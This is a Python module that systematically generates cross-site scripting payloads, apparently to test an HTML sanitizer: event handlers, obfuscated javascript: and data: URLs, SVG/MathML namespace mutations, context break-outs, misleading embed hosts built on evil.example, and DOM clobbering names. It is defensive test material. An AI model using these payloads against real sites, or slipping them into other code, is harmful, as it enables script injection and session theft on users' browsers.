"""Attacks by rule: what makes markup dangerous, crossed with where it may stand and how it may be spelled.

Each family is a function that gives texts; `FAMILIES` has them all. Nothing is drawn by chance, so a failure is found
again by its number.
"""

from collections.abc import Callable, Iterator
from itertools import cycle, islice, product

RUNS = "<img src=x onerror=alert(1)>"
"""Markup that runs wherever markup is read."""

# ------------------------------------------------------------------------------------------------------- handlers

KEPT = (
    "a abbr aside audio blockquote br caption code dd dl dt em figcaption figure footer h1 h3 h6 hr img li mark "
    "ol p pre q s small span strong sub sup table tbody td th thead tr u ul video b i del strike"
).split()
FOREIGN = "svg math foreignObject annotation-xml mtext mglyph animate set use image".split()
DROPPED = (
    "script style iframe object embed applet form input button select option textarea title template noscript "
    "noframes noembed xmp plaintext listing frameset frame base link meta body html head canvas dialog details "
    "summary marquee keygen isindex portal fencedframe slot x-y o:p font center nobr ruby rt rp picture source "
    "track map area param label fieldset legend menu dir meter progress output data time wbr bdi bdo address main "
    "nav section header"
).split()
EVENTS = (
    "onclick onmouseover onmouseenter onpointerover onfocus onblur onfocusin onload onerror ontoggle "
    "onanimationstart ontransitionend oncopy onpaste onkeydown oninput onchange onsubmit onscroll onwheel ondrag "
    "onresize onpageshow onhashchange onbegin onend onloadstart oncanplay onbeforetoggle onscrollend "
    "onsecuritypolicyviolation ONCLICK oNfOcUs"
).split()
SEPARATORS = (" ", "/", "\t", "\n", "\f", ' a="b"', " a='b' ", ' "', " =x ", "\r", "\x00", " /x/")
EQUALS = ("=", " = ", "=\n", "\t=\t")


def handlers() -> Iterator[str]:
    """Every element with handlers, set off and spelled in turn in every way."""
    ways = cycle(product(SEPARATORS, EQUALS, ("alert(1)", "'alert(1)'", '"alert(1)"', "`alert(1)`", "alert&lpar;1)")))
    for name in KEPT:
        for event in EVENTS:
            separator, equals, value = next(ways)
            yield f"<{name}{separator}{event}{equals}{value} tabindex=0 autofocus>x</{name}>"
    events = cycle(EVENTS)
    for name, event in product((*FOREIGN, *DROPPED), islice(events, 6)):
        separator, equals, value = next(ways)
        yield f"<{name}{separator}{event}{equals}{value} src=x open>x{RUNS}</{name}>"


# ----------------------------------------------------------------------------------------------------------- URLs

SCRIPT_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://page.example/0",
    "filesystem:https://page.example/x",
    "view-source:javascript:alert(1)",
    "javascript://x.example/%0aalert(1)",
    "feed:javascript:alert(1)",
)
SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda url: url,
    lambda url: " \x01\x1f" + url,
    lambda url: url[:4] + "\t" + url[4:],
    lambda url: url[:4] + "\r\n" + url[4:],
    lambda url: url.replace(":", "\n:", 1),
    lambda url: url.replace(":", "&colon;", 1),
    lambda url: url[:4] + "&Tab;&NewLine;" + url[4:],
    lambda url: f"&#{ord(url[0])};{url[1:]}",
    lambda url: f"&#x{ord(url[0]):x}{url[1:]}" if url[1] not in "abcdef" else f"&#0000{ord(url[0])}{url[1:]}",
    lambda url: "".join(f"&#{ord(each):07}" for each in url),
    lambda url: url[:4] + "\x00" + url[4:],
    lambda url: url[:4] + "\ud800" + url[4:],
    lambda url: url[:4] + "\u00ad\u200b" + url[4:],
    lambda url: "\ufeff\u00a0\u3000" + url,
    lambda url: "".join(chr(ord(each) + 0xFEE0) if each.isalpha() else each for each in url),
    lambda url: url.replace(":", "%3a", 1),
    lambda url: "%20" + url,
    lambda url: url + "#https://x.example/",
    lambda url: "&#x80000000;" + url + "&#0;",
    lambda url: "x\ny".join((url[:2], url[2:])),
)
CARRIERS = (
    '<a href="{}">x</a>',
    "<a href='{}' target=_blank>x</a>",
    "<a href={}>x</a>",
    '<a href=/x HREF="{}" href="{}">x</a>',
    '<p><a title="{}" href="{}"><img src=/a.jpg></a></p>',
    '<area href="{}"><map name=m><area shape=rect href="{}"></map>',
    '<img src="{}" alt="{}">',
    '<img src=/a.jpg srcset="{} 1x, {} 640w" sizes="{}">',
    '<img src=/a.jpg longdesc="{}" usemap="{}" dynsrc="{}" lowsrc="{}" data-src="{}" data-lazy-src="{}">',
    '<picture><source srcset="{}"><img src=/a.jpg></picture>',
    '<figure><a href="{}"><img src="/a.jpg"></a><figcaption cite="{}">x</figcaption></figure>',
    '<blockquote cite="{}"><p>x</p></blockquote><q cite="{}">x</q><del cite="{}">x</del>',
    '<video src="{}" poster="{}" controls></video><audio src="{}"></audio>',
    '<video><source src="{}"><track src="{}" default></video>',
    '<iframe src="{}" srcdoc="{}" title=x></iframe>',
    '<embed src="{}"><object data="{}" codebase="{}" classid="{}"><param name=movie value="{}"></object>',
    '<form action="{}"><button formaction="{}">x</button><input type=image src="{}" formaction="{}"></form>',
    '<body background="{}"><table background="{}"><tr><td background="{}">x',
    '<base href="{}"><link rel=stylesheet href="{}"><meta http-equiv=refresh content="0;url={}">',
    '<svg><a xlink:href="{}" href="{}"><text>x</text></a><use href="{}"/><image href="{}"/></svg>',
    '<svg><a><animate attributeName=href values="{}" to="{}"/><set attributeName=href to="{}"/>x</a></svg>',
    '<math href="{}"><mtext xlink:href="{}"><a href="{}">x</a></mtext></math>',
    '<p style="background:url({})">x</p><div style="behavior:url(\'{}\');width:expression({})">x</div>',
    '<a ping="{}" href="https://x.example/">x</a><html manifest="{}"><head profile="{}">',
    '<div class="fb-post" data-href="{}">x</div><blockquote class="twitter-tweet"><a href="{}">x</a></blockquote>',
    '<lite-youtube videoid="{}" href="{}"></lite-youtube><amp-img src="{}"></amp-img>',
    "[embed]{}[/embed]",
    '[caption id="a"]<a href="{}"><img src="{}"></a> {}[/caption]',
    '[video src="{}" poster="{}"][audio mp3="{}"][button url="{}"]x[/button]',
)


def urls() -> Iterator[str]:
    """Every script URL in every spelling, in the carriers in turn, and the plainest in all of them."""
    for carrier, spelling in product(CARRIERS, SPELLINGS):
        yield carrier.replace("{}", spelling(SCRIPT_URLS[0]))
    carriers = cycle(CARRIERS)
    for url, spelling, _ in product(SCRIPT_URLS[1:], SPELLINGS, range(3)):
        yield next(carriers).replace("{}", spelling(url))


# ----------------------------------------------------------------------------------------------------- namespaces

SPACES = (
    ("<svg>", "</svg>"),
    ("<svg><foreignObject>", "</foreignObject></svg>"),
    ("<svg><desc>", "</desc></svg>"),
    ("<svg><title>", "</title></svg>"),
    ("<math>", "</math>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<math><mtext><mglyph>", "</mglyph></mtext></math>"),
    ("<math><mi><malignmark>", "</malignmark></mi></math>"),
    ('<math><annotation-xml encoding="text/html">', "</annotation-xml></math>"),
    ('<math><annotation-xml encoding="application/xhtml+xml"><svg>', "</svg></annotation-xml></math>"),
    ("<svg></p>", "</svg>"),
    ("<math><mtext><table><mglyph>", "</mglyph></table></mtext></math>"),
    ("<form><math><mtext></form><form><mglyph>", "</mglyph></mtext></math></form>"),
    ("<table><tr><td><svg>", "</svg></td></tr></table>"),
    ("<select><svg>", "</svg></select>"),
    ("<svg><style><math>", "</math></style></svg>"),
)
RAW = "style title textarea xmp noscript noembed noframes iframe script plaintext listing template desc select".split()


def namespaces() -> Iterator[str]:
    """Elements whose content is text in one namespace and markup in another, with markup hidden in an attribute."""
    for (before, after), raw in product(SPACES, RAW):
        yield f'{before}<{raw}><p title="</{raw}>{RUNS}">x</p></{raw}>{after}y'
        yield f"{before}<{raw}><!--</{raw}>{RUNS}-->{after}"
        yield f"{before}<{raw}><![CDATA[</{raw}>{RUNS}]]></{raw}>{after}<p>{before}{RUNS}"
        yield f'{before}<{raw}><a id="</{raw}><a href=javascript:alert(1)>x</a>">{after}'


# ----------------------------------------------------------------------------------------------------- breaking out

_BREAKS = """
" ' ` > "> '> /> --> --!> ]]> ?> %> }} </div> </p> </section> </body></html> </title> </textarea> </script> </style>
</template> </svg> </math> </table> </tr></tbody></table> </select> </noscript> </xmp> </iframe> </noembed> </ </x
</foreignObject></svg> </mtext></math> </a></a></a> </li></ul> </blockquote> <plaintext> <!-- <!--> <!---> <![CDATA[
<? <?xml <!doctype <!ENTITY <textarea> <title> <style> <script> <xmp> <noscript> <template> <select> <table> <svg>
<math> <frameset> <body> <html> <head> <form> <iframe> <p/> <div <a href= href=" title=' & &# &#x &lt
"""
BREAKS = tuple(_BREAKS.split())
PLACES = (
    "{0}{1}",
    "<p>{0}{1}</p>after",
    "<p>{0}",
    '<p title="{2}{3}">x</p>',
    '<img src=/a.jpg alt="{2}{3}"><a href="https://x.example/{2}{3}" title="{2}{3}">x</a>',
    "<p>{2}{3}</p>",
    "<pre><code class='language-{2}'>{2}{3}</code></pre>",
    "<figure><img src=/a.jpg alt='x'><figcaption>{2}{3} <small class=credit>{2}{3}</small></figcaption></figure>",
    "<p lang='{2}{3}' dir='{2}{3}' class='{2}{3}'>x</p><abbr title='{2}{3}'>x</abbr>",
    "<ol start='{2}{3}'><li>x</ol><table><td colspan='{2}{3}' rowspan='{2}'>x</table>",
    "<iframe src='https://v.example/?{2}{3}' title='{2}{3}' width='{2}' height='{2}'></iframe>",
    '[caption width="{2}" id="{0}{1}"]<img src=/a.jpg>{0}{1}[/caption]',
)


def _escaped(text: str) -> str:
    """Give a text as markup for itself."""
    entities = {"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;"}
    return "".join(entities.get(each, each) for each in text)


def breaks() -> Iterator[str]:
    """What ends or swallows the page around the output: as markup, and as text that must stay text."""
    for found, place in product(BREAKS, PLACES):
        yield place.format(found, RUNS, _escaped(found), _escaped(RUNS))
    for found, other in product(BREAKS, BREAKS[::9]):
        yield f"<p>{_escaped(found + other + RUNS)}{found}"


# -------------------------------------------------------------------------------------------------------- mutations

NESTS = (
    "<form id=a>|<table>|<table><tr>|<table><caption>|<table><colgroup>|<p>|<p><b>|<b><i>|<a href=/x>|<nobr>|<button>|"
    "<select>|<select><option>|<template>|<noscript>|<svg>|<math><mtext>|<svg><foreignObject>|<ul><li>|<dl><dd>|<h1>|"
    "<ruby><rt>|<div></p>|</br>|<listing>|<pre>|<object>|<marquee>|<optgroup>|<font>|<image>|<textarea>|<style>|<!--|"
    "<![CDATA["
).split("|")
CLOSERS = ("</form>", "</table>", "</p>", "</b>", "</a>", "</template>", "</svg>", "-->", "</select>", "</h1>", "]]>")


def mutations() -> Iterator[str]:
    """Nesting that no tree can have, so that a parser puts it right, ended at odd places."""
    ends = cycle(CLOSERS)
    for one, two in product(NESTS, NESTS):
        yield f"{one}{two}{next(ends)}{one}x{RUNS}{next(ends)}<a href=javascript:alert(1)>y"
    thirds = cycle(NESTS)
    for one, two in product(NESTS[::2], NESTS):
        yield f'{one}a{two}b{next(thirds)}<p title="{next(ends)}{RUNS}">c{next(ends)}d</p>{next(ends)}'


# ------------------------------------------------------------------------------------------------------------ hosts

HOSTS = (
    "www.youtube.com/embed/a1B2c3D4e5F",
    "player.vimeo.com/video/1",
    "twitter.com/a/status/1",
    "w.soundcloud.com/player/?u",
)
TRICKS = (
    "https://{}",
    "https:\\\\evil.example\\@{}",
    "https://evil.example\\@{}",
    "https://evil.example/@{}",
    "https://{}@evil.example/",
    "https://a:b@{}",
    "//evil.example#@{}",
    "https://evil.example?//{}",
    "\\/\\/{}",
    "/\\evil.example/{}",
    "https:evil.example/{}",
    "https:///{}",
    "https://evil.example\t@{}",
    "https://evil.example\x00.{}",
    "https://\u202e{}",
    "https://\uff45vil.example\u3002{}",
    "https://evil\u2044{}",
    "https://evil.example%2f{}",
    "https://[::1]@{}",
    "https://[{}]/",
    "https://.{}",
    "https://evil.example.{}:0x50/",
    "ht\ntps://evil.example/\r{}",
    'https://{}" onload="alert(1)',
    "https://{}?javascript:alert(1)//<script>",
    "javascript://{}/%0aalert(1)",
    "data:text/html,https://{}",
)
HOST_CARRIERS = (
    '<iframe src="{}" srcdoc="<script>alert(1)</script>" allow="autoplay"></iframe>',
    '<a href="{}">x</a>',
    "<iframe data-src='{}' src='about:blank'></iframe>",
    '<blockquote class="twitter-tweet" cite="{}"><a href="{}">x</a></blockquote><script src="{}"></script>',
    '<img src="{}" srcset="{} 2x"><video src="{}"></video>',
    "<p>{}</p>",
    "[embed]{}[/embed]",
    '<object data="{}"><embed src="{}"></object>',
)


def hosts() -> Iterator[str]:
    """Addresses that seem to be of a known site."""
    for host, trick, carrier in product(HOSTS, TRICKS, HOST_CARRIERS):
        yield carrier.replace("{}", trick.replace("{}", host))


# -------------------------------------------------------------------------------------------------------- clobbering

NAMES = (
    "getElementById cookie body forms location config attributes childNodes parentNode nodeName innerHTML __proto__ "
    "constructor toString top self currentScript defaultView"
).split()
NAMED = (
    '<a id="{0}">x</a><a id="{0}" name="{0}" href="https://x.example/">y</a>',
    '<img name="{0}" id={0} src=/a.jpg>',
    '<form name="{0}"><input name="{0}" id="{0}"></form>',
    '<p id="{0}" name="{0}">x</p><h2 id="{0}">x</h2><span id="{0}">x</span>',
    '<iframe name="{0}" id="{0}" src="https://v.example/1"></iframe><object id="{0}"></object><embed name="{0}">',
    '<figure id="{0}"><img src=/a.jpg><figcaption id="{0}">x</figcaption></figure><svg id="{0}"></svg>',
)


def clobbering() -> Iterator[str]:
    """Names that hide what a page's scripts ask for."""
    for name, markup in product(NAMES, NAMED):
        yield markup.format(name)


FAMILIES: dict[str, Callable[[], Iterator[str]]] = {
    "handlers": handlers,
    "urls": urls,
    "namespaces": namespaces,
    "breaks": breaks,
    "mutations": mutations,
    "hosts": hosts,
    "clobbering": clobbering,
}
"""Each family of attacks."""
